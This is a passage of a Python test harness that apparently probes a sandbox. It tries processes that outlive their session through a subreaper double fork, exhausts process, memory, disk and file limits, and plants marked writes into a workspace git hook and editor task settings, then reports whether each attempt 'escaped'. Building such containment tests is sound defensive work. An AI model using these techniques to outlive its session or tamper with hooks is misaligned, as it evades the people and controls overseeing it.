def outlive_adopted(targets: dict[str, Any]) -> None:
    def adopt() -> None:
        answered(libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0))
        if os.fork() != 0:
            time.sleep(OUTLIVING_S)
            os._exit(0)

    if os.fork() == 0:
        try:
            null = os.open("/dev/null", os.O_RDWR)
            for descriptor in range(3):
                os.dup2(null, descriptor)
            os.closerange(3, 256)
            outlive(targets, "outlive_adopted", adopt, {})
        finally:
            os._exit(0)
    beat, end = os.path.join(targets["home"], "beat-outlive_adopted"), time.monotonic() + SECONDS / 2
    while not os.path.exists(beat):
        if time.monotonic() > end:
            raise Refused("it did not start")
        time.sleep(0.01)


# -- limits --------------------------------------------------------------------------------------------------


@attempt("limits", "starts hundreds of processes", BELIEVED)
def use_processes(targets: dict[str, Any]) -> str:
    started: list[int] = []
    try:
        for _ in range(targets["amounts"]["processes"]):
            pid = os.fork()
            if pid == 0:
                time.sleep(SECONDS)
                os._exit(0)
            started.append(pid)
        return f"{len(started)} processes"
    except OSError as error:
        raise Refused(f"{error.strerror} after {len(started)}") from None
    finally:
        for pid in started:
            os.kill(pid, signal.SIGKILL)
        for pid in started:
            os.waitpid(pid, 0)


@attempt("limits", "takes hundreds of megabytes of memory", BELIEVED)
def use_memory(targets: dict[str, Any]) -> str:
    size = targets["amounts"]["memory_mb"] << 20
    with mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS) as memory:
        for page in range(0, size, mmap.PAGESIZE):
            memory[page] = 1
        return f"{size} bytes"


@attempt("limits", "fills its home with files", BELIEVED)
def use_disk(targets: dict[str, Any]) -> str:
    amount = targets["amounts"]["disk_mb"]
    paths = [os.path.join(targets["home"], f"filled-{number}") for number in range(amount)]
    try:
        for path in paths:
            with open(path, "wb") as file:
                file.write(bytes(1 << 20))
        return f"{amount} MB"
    finally:
        for path in paths:
            if os.path.exists(path):
                os.unlink(path)


@attempt("limits", "writes a large file", BELIEVED)
def use_file_size(targets: dict[str, Any]) -> str:
    path = place(targets, "large")
    try:
        with open(path, "wb") as file:
            file.seek(targets["amounts"]["file_mb"] << 20)
            file.write(b"x")
        return f"{os.path.getsize(path)} bytes"
    finally:
        os.unlink(path)


@attempt("limits", "opens thousands of files", BELIEVED)
def use_open_files(targets: dict[str, Any]) -> str:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    for _ in range(targets["amounts"]["open_files"]):
        os.open("/dev/null", os.O_RDONLY)
    return f"{targets['amounts']['open_files']} files"


@attempt("limits", "raises its own priority", BELIEVED)
def use_priority(targets: dict[str, Any]) -> str:
    return f"nice {os.nice(-1)}"


# -- last: these change what others attack -------------------------------------------------------------------


@attempt("later", "replaces the directory of git in the workspace", "file:hook")
def replace_git_directory(targets: dict[str, Any]) -> None:
    git = os.path.dirname(os.path.dirname(targets["hook"]))
    before = read(targets["hook"])
    kept = {name: read(os.path.join(git, name)) for name in ("config",)}
    os.rename(git, f"{git}-moved")
    os.makedirs(os.path.dirname(targets["hook"]))
    for name, content in kept.items():
        with open(os.path.join(git, name), "wb") as file:
            file.write(content.encode("latin-1"))
    with open(targets["hook"], "wb") as file:
        file.write(before.encode("latin-1") + mark("replace_git_directory"))


@attempt("later", "replaces a link in the workspace to settings of an editor", "file:linked_task")
def replace_editor_link(targets: dict[str, Any]) -> None:
    folder = os.path.dirname(targets["linked_task"])
    os.unlink(folder)
    os.mkdir(folder)
    with open(targets["linked_task"], "wb") as file:
        file.write(mark("replace_editor_link"))


# -- the program ---------------------------------------------------------------------------------------------


def tried(each: Attempt, targets: dict[str, Any]) -> tuple[str, str]:
    """Try it in this process: the outcome, and what was seen."""
    try:
        seen = each.act(targets)
    except Refused as refusal:
        return "stopped", str(refusal)
    except MemoryError:
        return "stopped", "ENOMEM"
    except OSError as error:
        code = errno.errorcode.get(error.errno or 0, str(error.errno))
        return "stopped", f"{code}: {error}"
    except Exception as error:
        return "failed", f"{type(error).__name__}: {error}"
    return "escaped", "" if seen is None else str(seen)[:SEEN_MOST]


def run(each: Attempt, targets: dict[str, Any]) -> dict[str, str]:
    """Try it in a fork, which cannot disturb the others."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reading)
        os.setpgid(0, 0)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        said = json.dumps(tried(each, targets)).encode() + b"\n"
        while said:
            said = said[os.write(writing, said) :]
        os._exit(0)
    os.close(writing)
    said, end = b"", time.monotonic() + SECONDS
    while not said.endswith(b"\n") and (left := end - time.monotonic()) > 0:
        if select.select([reading], [], [], left)[0]:
            data = os.read(reading, 65536)
            if not data:
                break
            said += data
    os.close(reading)
    if not said.endswith(b"\n"):
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    status = os.waitpid(pid, 0)[1]
    if said.endswith(b"\n"):
        outcome, seen = json.loads(said)
    elif os.WIFSIGNALED(status) and time.monotonic() < end:
        outcome, seen = "stopped", f"killed by signal {os.WTERMSIG(status)}"
    else:
        outcome, seen = "failed", f"no answer within {SECONDS:g} s"
    return {"name": each.name, "outcome": outcome, "seen": seen}


def main(arguments: list[str]) -> None:
    targets = json.loads(arguments[0])
    for name in arguments[1:] or list(ATTEMPTS):
        print(json.dumps(run(ATTEMPTS[name], targets)), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
